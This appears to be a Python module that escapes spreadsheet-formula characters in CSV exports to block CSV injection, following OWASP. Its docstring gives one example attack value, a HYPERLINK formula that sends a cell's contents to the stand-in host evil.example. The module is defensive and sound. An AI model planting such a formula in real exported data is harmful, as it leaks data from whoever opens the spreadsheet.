"""CSV output that cannot be turned against the person who opens it (CSV/formula injection).

A spreadsheet treats a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
as a formula: a volunteer's display name ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would
run on the coordinator's machine. OWASP's rule: prefix such a cell with a single quote, so the
spreadsheet shows it as text. Only text written by users is escaped; the numbers we write ourselves
(ids, hours, counts) are left as they are so they stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: Any) -> Any:
    """The value a CSV writer may safely write: a string beginning like a formula gets a leading
    single quote; anything that is not a string (a number, None) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def escape_row(row: Mapping[str, Any], *, trusted: Iterable[str] = ()) -> dict[str, Any]:
    """The row with every cell escaped except the ``trusted`` columns (values we computed, such as
    formatted hours, which are never user text)."""
    keep = set(trusted)
    return {key: value if key in keep else escape_cell(value) for key, value in row.items()}


def csv_text(
    rows: Iterable[Mapping[str, Any]], *, columns: Sequence[str], trusted: Iterable[str] = ()
) -> str:
    """The CSV document (header and rows), each untrusted cell escaped."""
    trusted = tuple(trusted)
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(columns))
    writer.writeheader()
    writer.writerows(escape_row(row, trusted=trusted) for row in rows)
    return buffer.getvalue()
